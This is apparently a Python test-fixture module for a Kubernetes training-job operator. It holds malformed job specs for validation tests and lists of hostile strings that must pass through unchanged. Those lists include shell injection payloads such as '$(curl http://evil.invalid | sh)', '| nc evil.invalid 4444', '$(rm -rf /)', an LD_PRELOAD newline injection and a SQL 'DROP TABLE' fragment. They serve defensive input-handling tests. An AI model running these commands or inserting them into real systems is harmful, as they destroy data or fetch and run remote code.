"""A corpus of malformed DistributedTrainings, each with the field a clear rejection must name, and a set of hostile
but valid strings that must reach the pods verbatim.

Each case is built from a valid CPU-only job by one change, so the named field is the only thing wrong with it.
"""

from __future__ import annotations

import copy
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

Body = dict[str, Any]


def valid_body(name: str) -> Body:
    """A job every check accepts: 2 CPU-only workers (the fake nodes' GPUs never limit the corpus)."""
    return {
        "apiVersion": "kubetrain.dev/v1alpha1",
        "kind": "DistributedTraining",
        "metadata": {"name": name},
        "spec": {"image": "kubetrain/mnist:0.1.0", "command": ["python", "-m", "mnist", "--epochs", "2"],
                 "workers": 2, "resources": {"gpusPerWorker": 0}},
    }


@dataclass(frozen=True)
class BadInput:
    id: str
    category: str
    field: str  # the JSON path a user must be pointed at
    change: Callable[[Body], None]

    def body(self, name: str) -> Body:
        body = copy.deepcopy(valid_body(name))
        self.change(body)
        return body


def spec_set(path: str, value: Any) -> Callable[[Body], None]:
    """Set spec.<path> (dots separate levels)."""

    def change(body: Body) -> None:
        node = body["spec"]
        *parents, leaf = path.split(".")
        for key in parents:
            node = node.setdefault(key, {})
        node[leaf] = value

    return change


def spec_drop(key: str) -> Callable[[Body], None]:
    return lambda body: body["spec"].pop(key)


def rename(name: str) -> Callable[[Body], None]:
    return lambda body: body["metadata"].__setitem__("name", name)


def both(*changes: Callable[[Body], None]) -> Callable[[Body], None]:
    def change(body: Body) -> None:
        for one in changes:
            one(body)

    return change


CORPUS: list[BadInput] = [
    # wrong types
    BadInput("workers-string", "type", "spec.workers", spec_set("workers", "two")),
    BadInput("workers-float", "type", "spec.workers", spec_set("workers", 1.5)),
    BadInput("command-string", "type", "spec.command", spec_set("command", "python train.py")),
    BadInput("command-numbers", "type", "spec.command[0]", spec_set("command", [1, 2])),
    BadInput("env-object", "type", "spec.env", spec_set("env", {"SEED": "1"})),
    BadInput("env-value-number", "type", "spec.env[0].value", spec_set("env", [{"name": "SEED", "value": 1}])),
    BadInput("suspend-string", "type", "spec.runPolicy.suspend", spec_set("runPolicy.suspend", "yes")),
    BadInput("resources-string", "type", "spec.resources", spec_set("resources", "big")),
    BadInput("node-selector-number", "type", "spec.scheduling.nodeSelector", spec_set("scheduling.nodeSelector",
                                                                                      {"disk": 1})),
    # out of range
    BadInput("workers-zero", "range", "spec.workers", spec_set("workers", 0)),
    BadInput("workers-too-many", "range", "spec.workers", spec_set("workers", 1001)),
    BadInput("slots-zero", "range", "spec.slotsPerWorker", spec_set("slotsPerWorker", 0)),
    BadInput("gpus-negative", "range", "spec.resources.gpusPerWorker", spec_set("resources.gpusPerWorker", -1)),
    BadInput("backoff-negative", "range", "spec.runPolicy.backoffLimit", spec_set("runPolicy.backoffLimit", -1)),
    BadInput("deadline-zero", "range", "spec.runPolicy.activeDeadlineSeconds",
             spec_set("runPolicy.activeDeadlineSeconds", 0)),
    BadInput("wait-over-a-day", "range", "spec.launcher.waitForWorkersSeconds",
             spec_set("launcher.waitForWorkersSeconds", 86401)),
    BadInput("cpu-words", "range", "spec.resources.cpu", spec_set("resources.cpu", "four")),
    BadInput("memory-gb", "range", "spec.resources.memory", spec_set("resources.memory", "16GB")),
    # enums
    BadInput("clean-pod-policy", "enum", "spec.runPolicy.cleanPodPolicy", spec_set("runPolicy.cleanPodPolicy",
                                                                                  "Sometimes")),
    BadInput("pull-policy", "enum", "spec.imagePullPolicy", spec_set("imagePullPolicy", "Maybe")),
    BadInput("failure-rule-action", "enum", "spec.runPolicy.podFailurePolicy.rules[0].action",
             spec_set("runPolicy.podFailurePolicy", {"rules": [{"action": "Retry", "onExitCodes": {
                 "operator": "In", "values": [1]}}]})),
    BadInput("failure-rule-exit-code-256", "range", "spec.runPolicy.podFailurePolicy.rules[0].onExitCodes.values[0]",
             spec_set("runPolicy.podFailurePolicy", {"rules": [{"action": "Ignore", "onExitCodes": {
                 "operator": "In", "values": [256]}}]})),
    BadInput("failure-rule-exit-code-0-in", "combination",
             "spec.runPolicy.podFailurePolicy.rules[0].onExitCodes.values",
             spec_set("runPolicy.podFailurePolicy", {"rules": [{"action": "Ignore", "onExitCodes": {
                 "operator": "In", "values": [0, 1]}}]})),
    BadInput("failure-rule-two-matchers", "combination", "spec.runPolicy.podFailurePolicy.rules[0]",
             spec_set("runPolicy.podFailurePolicy", {"rules": [{"action": "Ignore", "onExitCodes": {
                 "operator": "In", "values": [1]}, "onPodConditions": [{"type": "DisruptionTarget"}]}]})),
    BadInput("failure-rule-role", "enum", "spec.runPolicy.podFailurePolicy.rules[0].onExitCodes.role",
             spec_set("runPolicy.podFailurePolicy", {"rules": [{"action": "FailJob", "onExitCodes": {
                 "operator": "In", "values": [2], "role": "Driver"}}]})),
    BadInput("gang-scheduler", "enum", "spec.scheduling.gang.scheduler",
             spec_set("scheduling.gang", {"scheduler": "Kueue"})),
    BadInput("gang-timeout-zero", "range", "spec.scheduling.gang.scheduleTimeoutSeconds",
             spec_set("scheduling.gang", {"scheduler": "Volcano", "scheduleTimeoutSeconds": 0})),
    BadInput("gang-min-above-workers", "combination", "spec.scheduling.gang.minAvailable",
             spec_set("scheduling.gang", {"scheduler": "Coscheduling", "minAvailable": 3})),
    BadInput("gang-queue-without-volcano", "combination", "spec.scheduling.gang.queue",
             spec_set("scheduling.gang", {"scheduler": "Coscheduling", "queue": "research"})),
    BadInput("gang-without-workers", "combination", "spec.scheduling.gang",
             both(spec_set("workers", 0), spec_set("launcher.runAsWorker", True),
                  spec_set("scheduling.gang", {"scheduler": "Coscheduling"}))),
    BadInput("mpi-implementation-unknown", "enum", "spec.mpi.implementation",
             spec_set("mpi.implementation", "OpenMPI5")),
    BadInput("run-as-worker-string", "type", "spec.launcher.runAsWorker", spec_set("launcher.runAsWorker", "yes")),
    BadInput("run-as-user-negative", "range", "spec.runAsUser", spec_set("runAsUser", -1)),
    BadInput("elastic-workers-below-min", "combination", "spec.workers",
             spec_set("elastic", {"minWorkers": 3, "maxWorkers": 4})),
    BadInput("elastic-workers-above-max", "combination", "spec.workers",
             spec_set("elastic", {"minWorkers": 1, "maxWorkers": 1})),
    BadInput("elastic-min-zero", "range", "spec.elastic.minWorkers",
             spec_set("elastic", {"minWorkers": 0, "maxWorkers": 2})),
    BadInput("elastic-without-max", "missing", "spec.elastic.maxWorkers", spec_set("elastic", {"minWorkers": 1})),
    # missing fields
    BadInput("no-spec", "missing", "spec", lambda body: body.pop("spec")),
    BadInput("no-image", "missing", "spec.image", spec_drop("image")),
    BadInput("no-command", "missing", "spec.command", spec_drop("command")),
    BadInput("empty-command", "missing", "spec.command", spec_set("command", [])),
    BadInput("empty-image", "missing", "spec.image", spec_set("image", "")),
    BadInput("env-without-name", "missing", "spec.env[0].name", spec_set("env", [{"value": "1"}])),
    # wrong combinations
    BadInput("slots-above-gpus", "combination", "spec.slotsPerWorker",
             both(spec_set("resources.gpusPerWorker", 2), spec_set("slotsPerWorker", 4))),
    BadInput("same-mount-paths", "combination", "spec.checkpoint.mountPath",
             both(spec_set("data.mountPath", "/work"), spec_set("checkpoint.mountPath", "/work"))),
    BadInput("same-dir-other-spelling", "combination", "spec.checkpoint.mountPath",
             both(spec_set("data.mountPath", "/data/"), spec_set("checkpoint.mountPath", "/data"))),
    BadInput("reserved-env-name", "combination", "spec.env",
             spec_set("env", [{"name": "KUBETRAIN_JOB_NAME", "value": "other"}])),
    BadInput("env-twice", "combination", "spec.env[1]",
             spec_set("env", [{"name": "SEED", "value": "1"}, {"name": "SEED", "value": "2"}])),
    BadInput("relative-mount", "combination", "spec.data.mountPath", spec_set("data.mountPath", "data")),
    # what can never work, seen in the spec alone
    BadInput("image-uppercase", "never works", "spec.image", spec_set("image", "Kubetrain/MNIST:0.1.0")),
    BadInput("image-spaces", "never works", "spec.image", spec_set("image", "kubetrain/mnist 0.1.0")),
    BadInput("image-empty-tag", "never works", "spec.image", spec_set("image", "kubetrain/mnist:")),
    BadInput("claim-name-uppercase", "never works", "spec.data.claimName", spec_set("data.claimName", "HDF5_Data")),
    BadInput("priority-class-spaces", "never works", "spec.scheduling.priorityClassName",
             spec_set("scheduling.priorityClassName", "very high")),
    BadInput("data-on-the-venv", "never works", "spec.data.mountPath", spec_set("data.mountPath", "/opt/venv")),
    BadInput("checkpoint-above-the-entrypoints", "never works", "spec.checkpoint.mountPath",
             spec_set("checkpoint.mountPath", "/opt")),
    BadInput("data-under-usr", "never works", "spec.data.mountPath", spec_set("data.mountPath", "/usr/share/data")),
    BadInput("mount-dot-dot", "never works", "spec.data.mountPath", spec_set("data.mountPath", "/data/../opt/venv")),
    # two volumes the pods cannot have together
    BadInput("same-claim", "never works", "spec.checkpoint.claimName",
             both(spec_set("data.claimName", "shared"), spec_set("checkpoint.claimName", "shared"))),
    BadInput("checkpoint-in-read-only-data", "never works", "spec.checkpoint.mountPath",
             both(spec_set("data.mountPath", "/data"), spec_set("checkpoint.mountPath", "/data/ckpt"))),
    BadInput("data-in-checkpoint", "never works", "spec.data.mountPath",
             both(spec_set("data.mountPath", "/checkpoints/team-a"),
                  spec_set("checkpoint.mountPath", "/checkpoints/"))),
    BadInput("read-only-data-above-home", "never works", "spec.data.mountPath", spec_set("data.mountPath", "/home/")),
    # names
    BadInput("name-53-chars", "name", "metadata.name", rename("n" * 53)),
    BadInput("name-300-chars", "name", "metadata.name", rename("n" * 300)),
    BadInput("name-uppercase", "name", "metadata.name", rename("Big-Job")),
    BadInput("name-dots", "name", "metadata.name", rename("team.job")),
    BadInput("name-leading-digit", "name", "metadata.name", rename("1job")),
    # a typo in a field name
    BadInput("unknown-field", "unknown field", "spec.wrokers", spec_set("wrokers", 2)),
    # a pod's identity is kubetrain's: its namespace, name and owner
    BadInput("template-namespace", "unknown field", "spec.podTemplate.metadata.namespace",
             spec_set("podTemplate", {"metadata": {"namespace": "kube-system"}})),
    BadInput("template-owner", "unknown field", "spec.podTemplate.metadata.ownerReferences",
             spec_set("podTemplate", {"metadata": {"ownerReferences": [
                 {"apiVersion": "v1", "kind": "Namespace", "name": "kube-system", "uid": "0"}]}})),
    BadInput("template-generate-name", "unknown field", "spec.podTemplate.metadata.generateName",
             spec_set("podTemplate", {"metadata": {"generateName": "x-"}})),
    # only the pod's own validation knows these: the operator must not retry them for ever
    BadInput("template-label-value", "child object", "spec.podTemplate",
             spec_set("podTemplate", {"metadata": {"labels": {"team": "ml ops"}}})),
    BadInput("template-spec-string", "child object", "spec.podTemplate", spec_set("podTemplate", {"spec": "root"})),
    BadInput("node-selector-key", "child object", "spec.scheduling.nodeSelector",
             spec_set("scheduling.nodeSelector", {"bad key!": "x"})),
    BadInput("toleration-operator", "child object", "spec.scheduling.tolerations",
             spec_set("scheduling.tolerations", [{"key": "gpu", "operator": "Sometimes"}])),
    BadInput("checkpoint-on-tmp", "child object", "spec.checkpoint.mountPath",
             spec_set("checkpoint.mountPath", "/tmp")),
    BadInput("data-mount-slashes", "child object", "spec.data.mountPath", spec_set("data.mountPath", "//")),
    BadInput("env-value-from-empty", "child object", "spec.env[0].valueFrom",
             spec_set("env", [{"name": "TOKEN", "valueFrom": {"secretKeyRef": {}}}])),
    # hostile strings where they are not allowed
    BadInput("env-name-substitution", "hostile string", "spec.env[0].name",
             spec_set("env", [{"name": "$(rm -rf /)", "value": "1"}])),
    BadInput("env-name-newline", "hostile string", "spec.env[0].name",
             spec_set("env", [{"name": "A\nLD_PRELOAD", "value": "/tmp/x.so"}])),
    BadInput("command-item-5000-chars", "hostile string", "spec.command[1]",
             spec_set("command", ["python", "x" * 5000])),
    BadInput("env-value-70000-chars", "hostile string", "spec.env[0].value",
             spec_set("env", [{"name": "BLOB", "value": "y" * 70000}])),
]

# Valid, however hostile: they must reach the launcher's command and every container's env byte for byte.
HOSTILE_COMMAND = [
    "python", "-c", "import sys; print(sys.argv)",
    "; rm -rf / #", "$(curl http://evil.invalid | sh)", "`id`", "&& reboot", "| nc evil.invalid 4444",
    "'single' \"double\" \\backslash", "line one\nline two", "tab\there", "*", "~", "--np=999", "-x LD_PRELOAD",
    "ünïcødé ✓ 训练", "%s%n%x", "{{ .Values }}", "${HOME}", "z" * 4000,
]
HOSTILE_ENV = [
    {"name": "SHELLY", "value": "$(touch /tmp/pwned); `id`; echo $HOME && exit 1 || true"},
    {"name": "MULTILINE", "value": "first\nsecond\r\nthird"},
    {"name": "QUOTES", "value": "'\"\\'\"; DROP TABLE jobs;--"},
    {"name": "LONG_VALUE", "value": "v" * 60000},
    {"name": "EMPTY", "value": ""},
]
